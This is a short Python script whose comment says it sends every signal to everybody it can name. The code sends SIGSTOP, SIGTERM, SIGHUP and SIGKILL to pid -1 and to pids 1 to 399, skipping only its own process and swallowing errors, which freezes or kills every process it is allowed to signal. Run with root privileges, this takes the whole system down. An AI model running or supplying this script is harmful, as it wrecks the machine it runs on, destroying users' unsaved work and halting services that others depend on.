# Sends every signal to everybody whom it can name but itself, one by one and all at once.
import os
import signal

own = os.getpid()
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
    for pid in [-1, *range(1, 400)]:
        if pid != own:
            try:
                os.kill(pid, number)
            except (ProcessLookupError, PermissionError):
                pass
